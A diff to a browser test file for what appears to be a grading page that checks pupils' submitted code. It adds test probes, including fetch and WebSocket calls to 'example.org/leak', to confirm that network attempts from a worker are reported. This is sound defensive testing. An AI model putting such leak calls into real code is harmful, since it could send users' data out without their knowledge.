@@ -20,7 +20,7 @@ afterAll(async () => {
   await server.close();
 });
 
-/** Asks for the network in all ways that a worker has, and is right. */
+/** Asks for the network in all ways that a worker has; this page would report it. */
 const NETWORK = [
   'fetch("https://example.org/leak").catch(() => 0)',
   'try { new WebSocket("wss://example.org/leak") } catch {}',
@@ -111,8 +111,8 @@ it('an answer is judged on a sheet, kept, handed in, and the class checked again
   const readable = pupils.filter(({ isReadable }) => isReadable);
   const tampered = readable.flatMap((pupil) => pupil.tampered);
   expect(await page.locator('.classTable .claimed').count()).toBe(tampered.length);
-  // Its file says right, and the text does not even run.
-  expect(await page.locator('.classTable .open').count()).toBe(1);
+  // Their files say right, and the texts do not even run: the loop, and what asks for the network.
+  expect(await page.locator('.classTable .open').count()).toBe(2);
   expect(await page.locator('.classTable .denied').count()).toBe(0);
   await page.locator('.classTable .claimed button').first().click();
   expect(await page.locator('.classTable .more').innerText()).toMatch(/The check:/);
